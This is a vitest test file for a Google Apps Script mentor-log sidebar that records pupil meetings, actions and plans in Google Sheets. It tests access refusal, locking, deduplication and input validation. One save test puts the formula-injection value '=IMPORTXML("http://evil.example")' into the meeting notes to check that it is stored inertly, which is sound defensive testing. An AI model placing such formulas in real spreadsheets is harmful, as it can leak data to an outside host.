/**
 * The mentor log through the Apps Script adapters, over the fake: the sidebar's server
 * functions as google.script.run calls them.
 */
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vm from 'node:vm';
import { installFake, loadTabs } from '../gas/helpers';
import type { GasFake } from '../fakes/gas';
import { getMentee, getMentorLog, markActionDone, openMentorLog, saveMeeting } from '../../src/gas/handlers/mentor-log';
import { MENU_ITEMS } from '../../src/gas/menu';
import type { ApiResult, MenteeView, MentorLogView, SaveMeetingResponse } from '../../src/ui/api';
import { syntheticTracker } from '../support/synthetic';
import { STAFF, TODAY, meetingRequest, mentorLogTabs } from './fixture';

const root = path.resolve(__dirname, '../..');

beforeEach(() => {
  vi.useFakeTimers({ toFake: ['Date'] });
  vi.setSystemTime(new Date(`${TODAY}T09:30:00Z`));
});
afterEach(() => {
  vi.useRealTimers();
});

function value<T>(r: ApiResult<unknown>): T {
  if (!r.ok) throw new Error(`${r.code}: ${r.message}`);
  return r.value as T;
}

function tracker(user: string): GasFake {
  const fake = installFake({ user });
  loadTabs(fake, mentorLogTabs());
  return fake;
}

const ids = (fake: GasFake, tab: string) => fake.sheetValues(tab).slice(1).map((r) => r[1]);

describe('the sidebar server functions in Google Sheets', () => {
  it('Open mentor log comes right after Set up tracker and shows the sidebar file titled Mentor log', () => {
    const names = MENU_ITEMS.map((i) => i.caption);
    expect(names.indexOf('Open mentor log')).toBe(names.indexOf('Set up tracker') + 1);
    const fake = installFake({ files: { sidebar: '<!DOCTYPE html><p>the sidebar</p>' } });
    openMentorLog();
    expect(fake.ui.sidebars).toEqual([expect.objectContaining({ kind: 'sidebar', title: 'Mentor log', content: '<!DOCTYPE html><p>the sidebar</p>' })]);
  });

  it('getMentorLog shows a mentor their mentees, as plain JSON with days as ISO strings', () => {
    const fake = tracker(STAFF.fr);
    const r = getMentorLog();
    expect(JSON.parse(JSON.stringify(r))).toEqual(r);
    const view = value<MentorLogView>(r);
    expect(view.viewer?.initials).toBe('FR');
    expect(view.mentees.map((m) => [m.id, m.chip, m.daysSinceLastMeeting, m.overdueActions])).toEqual([
      ['P003', 'red', null, 0], ['P001', 'amber', 41, 1], ['P002', 'placed', null, 0],
    ]);
    fake.setUser(STAFF.stranger);
    const none = value<MentorLogView>(getMentorLog());
    expect(none.mentees).toEqual([]);
    expect(none.message).toContain('is not in the Staff tab');
  });

  it('getMentee returns history newest first and refuses someone else\'s mentee', () => {
    const fake = tracker(STAFF.fr);
    const amy = value<MenteeView>(getMentee('P001'));
    expect(amy.meetings.map((m) => m.date)).toEqual(['2026-01-20', '2025-10-01']);
    expect(JSON.parse(JSON.stringify(amy))).toEqual(amy);
    expect(getMentee('P004')).toMatchObject({ ok: false, code: 'refused' });
    expect(getMentee(42)).toMatchObject({ ok: false, code: 'invalid' });
    fake.setUser(STAFF.lg);
    expect(value<MenteeView>(getMentee('P004')).pupil.name).toBe('Cara Cole');
  });

  it('saves a meeting: rows appended with real dates, the pupil cells written, nothing else touched', () => {
    const fake = tracker(STAFF.fr);
    const pupilsBefore = fake.sheetValues('Pupils');
    const res = value<SaveMeetingResponse>(saveMeeting(meetingRequest({
      notes: '=IMPORTXML("http://evil.example")', nextMeeting: '2026-03-16',
      actions: [{ action: 'Write CV', due: '2026-03-20', owner: 'Pupil' }, { action: '+44 call home', due: '2026-03-06', owner: 'Me' }],
      plan: { planA: 'College: health and social care', planB: 'Sixth form', status: 'Applied' },
    })));
    expect(res.message).toBe('Meeting saved with 2 actions. Plan B updated.');
    const meetings = fake.sheetValues('Meetings');
    const last = meetings[meetings.length - 1];
    expect(last[0]).toBeInstanceOf(Date);
    expect((last[0] as Date).toISOString()).toBe('2026-03-02T00:00:00.000Z');
    expect(last.slice(1, 4)).toEqual(['P001', 'FR', 'Mentoring']);
    expect(last[9]).toBe('=IMPORTXML("http://evil.example")');
    expect(fake.sheetFormats('Meetings').formulas.flat().filter(Boolean)).toEqual([]);
    expect(fake.sheetValues('Actions').slice(-2).map((r) => [r[1], r[3], r[4]])).toEqual([['Write CV', 'Pupil', 'Open'], ['+44 call home', 'FR', 'Open']]);
    const pupilsAfter = fake.sheetValues('Pupils');
    const planB = pupilsBefore[0].indexOf('Plan B');
    const diffs: string[] = [];
    pupilsAfter.forEach((r, i) => r.forEach((c, j) => { if (c !== pupilsBefore[i][j]) diffs.push(`${i},${j}=${c}`); }));
    expect(diffs).toEqual([`1,${planB}=Sixth form`]);
  });

  it('two saves at once (interleaved by the lock) both land, and neither loses the other\'s plan change', () => {
    const fake = tracker(STAFF.fr);
    const shown = { planA: 'College: health and social care', planB: '', status: 'Applied' };
    // The careers leader's save holds the lock when the mentor's arrives; it finishes while the mentor's waits.
    fake.locks.hold('document');
    let leaderAnswer: ApiResult<unknown> | null = null;
    fake.locks.onContended = () => {
      fake.locks.onContended = undefined;
      fake.locks.release('document');
      fake.setUser(STAFF.leader);
      leaderAnswer = saveMeeting(meetingRequest({
        type: 'Parent meeting', notes: 'Leader: met parents', shown,
        actions: [{ action: 'Send college prospectus', due: '2026-03-09', owner: 'Me' }],
        plan: { ...shown, planB: 'Sixth form' },
      }));
      fake.setUser(STAFF.fr);
    };
    const mentorAnswer = saveMeeting(meetingRequest({
      notes: 'Mentor: talked about the interview', shown,
      actions: [{ action: 'Practise interview', due: '2026-03-10', owner: 'Pupil' }],
      plan: { ...shown, status: 'Interview' },
    }));
    expect(leaderAnswer).toMatchObject({ ok: true });
    expect(mentorAnswer).toMatchObject({ ok: true });
    // The mentor's save waited (contended), the leader's ran and released, then the mentor's ran.
    expect(fake.locks.events.map((e) => e.event)).toEqual(['acquired', 'released', 'acquired', 'released']);
    const notes = fake.sheetValues('Meetings').slice(-2).map((r) => [r[2], r[9]]);
    expect(notes).toEqual([['JS', 'Leader: met parents'], ['FR', 'Mentor: talked about the interview']]);
    expect(fake.sheetValues('Actions').slice(-2).map((r) => r[1])).toEqual(['Send college prospectus', 'Practise interview']);
    const header = fake.sheetValues('Pupils')[0];
    const amy = fake.sheetValues('Pupils')[1];
    expect(amy[header.indexOf('Plan B')]).toBe('Sixth form');
    expect(amy[header.indexOf('Application status')]).toBe('Interview');
    // The mentor's summary already shows the leader's meeting too.
    const m = value<SaveMeetingResponse>(mentorAnswer).mentee;
    expect(m.meetings.slice(0, 2).map((x) => x.staff)).toEqual(['FR', 'JS']);
    expect(m.pupil).toMatchObject({ planB: 'Sixth form', status: 'Interview' });
  });

  it('a save that cannot get the lock is answered busy and writes nothing; the same form saved twice lands once', () => {
    const fake = tracker(STAFF.fr);
    const before = { meetings: fake.sheetValues('Meetings').length, actions: fake.sheetValues('Actions').length };
    fake.holdDocumentLock();
    const req = meetingRequest({ actions: [{ action: 'Write CV', due: '2026-03-20', owner: 'Pupil' }] });
    const busy = saveMeeting(req);
    expect(busy).toMatchObject({ ok: false, code: 'busy' });
    expect(!busy.ok && busy.message).toContain('Someone else is saving');
    expect(fake.sheetValues('Meetings')).toHaveLength(before.meetings);
    fake.releaseHeld();
    expect(value<SaveMeetingResponse>(saveMeeting(req)).duplicate).toBe(false);
    expect(value<SaveMeetingResponse>(saveMeeting(req)).duplicate).toBe(true);
    expect(fake.sheetValues('Meetings')).toHaveLength(before.meetings + 1);
    expect(fake.sheetValues('Actions')).toHaveLength(before.actions + 1);
  });

  it('refuses a save for a pupil who is not the caller\'s mentee, and from someone not in Staff, writing nothing', () => {
    const fake = tracker(STAFF.lg);
    const before = fake.sheetValues('Meetings');
    const refused = saveMeeting(meetingRequest({ pupilId: 'P001' }));
    expect(refused).toMatchObject({ ok: false, code: 'refused' });
    expect(!refused.ok && refused.message).toContain('not one of your mentees');
    fake.setUser(STAFF.stranger);
    expect(saveMeeting(meetingRequest())).toMatchObject({ ok: false, code: 'refused' });
    fake.setUser('');
    expect(saveMeeting(meetingRequest())).toMatchObject({ ok: false, code: 'refused' });
    expect(fake.sheetValues('Meetings')).toEqual(before);
    expect(fake.locks.state()).toBe('free');
  });

  it('marks an action done: Status and Done on of that row only', () => {
    const fake = tracker(STAFF.fr);
    const before = fake.sheetValues('Actions');
    const r = value<{ mentee: MenteeView }>(markActionDone({ pupilId: 'P001', row: 2, action: 'Research college courses', due: '2026-02-01' }));
    expect(r.mentee.openActions.map((a) => a.action)).toEqual(['Write CV']);
    const after = fake.sheetValues('Actions');
    expect(after[1].slice(4, 6)).toEqual(['Done', expect.any(Date)]);
    expect(after[1].slice(0, 4)).toEqual(before[1].slice(0, 4));
    expect(after.slice(2)).toEqual(before.slice(2));
    expect(markActionDone({ pupilId: 'P001', row: 0, action: 'x', due: TODAY })).toMatchObject({ ok: false, code: 'invalid' });
  });

  it('rejects arguments of the wrong shape before touching the sheet', () => {
    const fake = tracker(STAFF.fr);
    fake.calls.reset();
    for (const bad of [undefined, 'P001', { ...meetingRequest(), actions: 'none' }, { ...meetingRequest(), sharedWithParents: 'yes' }]) {
      expect(saveMeeting(bad)).toMatchObject({ ok: false, code: 'invalid' });
    }
    // Only the spreadsheet handle was taken: nothing read, nothing written, no lock.
    expect(Object.keys(fake.calls.byMethod('spreadsheet'))).toEqual(['SpreadsheetApp.getActiveSpreadsheet']);
    expect(fake.locks.events).toEqual([]);
  });
});

describe('spreadsheet calls do not grow with the tracker', () => {
  function callsFor(pupils: number) {
    const fake = installFake({ user: 'cl@school.example' });
    loadTabs(fake, syntheticTracker({ pupils }));
    fake.calls.reset();
    const view = value<MentorLogView>(getMentorLog());
    const load = fake.calls.total('spreadsheet');
    fake.calls.reset();
    const mentee = value<MenteeView>(getMentee('P000004'));
    const one = fake.calls.total('spreadsheet');
    fake.calls.reset();
    const shown = { planA: mentee.pupil.planA ?? '', planB: mentee.pupil.planB ?? '', status: mentee.pupil.status ?? '' };
    value(saveMeeting(meetingRequest({ pupilId: 'P000004', shown, plan: { ...shown, planB: 'Apprenticeship' }, actions: [{ action: 'Write CV', due: '2026-03-20', owner: 'Pupil' }] })));
    // A tab whose grid is exactly full (the fake sizes a big tab to its rows) takes one call to
    // grow it before an append, however many rows it has: counted apart.
    const grow = fake.calls.count('Sheet.insertRowsAfter');
    expect(grow).toBeLessThanOrEqual(2);
    const save = fake.calls.total('spreadsheet') - grow;
    return { load, one, save, listed: view.mentees.length };
  }

  it('loading the list, a mentee and saving cost the same at 100, 1,000 and 10,000 pupils', () => {
    const small = callsFor(100);
    const mid = callsFor(1_000);
    const large = callsFor(10_000);
    expect(small.listed).toBe(100);
    expect(large.listed).toBe(10_000);
    expect(mid).toEqual({ ...small, listed: 1_000 });
    expect(large).toEqual({ ...small, listed: 10_000 });
    // One handle, one time zone, three calls per tab read (find it, its range, its values).
    expect(small.load).toBe(2 + 3 * 5);
  });
});

describe('the built script file', () => {
  let code = '';
  beforeAll(async () => {
    const file = path.join(root, 'build/Code.js');
    if (!fs.existsSync(file)) await (await import(path.join(root, 'scripts/build.mjs'))).buildAll();
    code = fs.readFileSync(file, 'utf8');
  });

  it('defines the sidebar functions at top level, and they answer over the fake', () => {
    for (const name of ['openMentorLog', 'getMentorLog', 'getMentee', 'saveMeeting', 'markActionDone']) {
      expect(code).toMatch(new RegExp(`^function ${name}\\(`, 'm'));
    }
    const fake = installFake({ user: STAFF.fr });
    loadTabs(fake, mentorLogTabs());
    const context = vm.createContext({ ...fake.globals, Date });
    vm.runInContext(code, context);
    const list = JSON.parse(JSON.stringify(vm.runInContext('getMentorLog()', context)));
    expect(list.ok).toBe(true);
    expect(list.value.mentees.map((m: { id: string }) => m.id)).toEqual(['P003', 'P001', 'P002']);
    context.request = meetingRequest({ actions: [{ action: 'Write CV', due: '2026-03-20', owner: 'Pupil' }] });
    const saved = JSON.parse(JSON.stringify(vm.runInContext('saveMeeting(request)', context)));
    expect(saved).toMatchObject({ ok: true, value: { duplicate: false } });
    expect(ids(fake, 'Meetings').slice(-1)).toEqual(['P001']);
    context.bad = { ...meetingRequest(), date: 'tomorrow' };
    expect(vm.runInContext('saveMeeting(bad)', context)).toMatchObject({ ok: false, code: 'invalid' });
  });
});
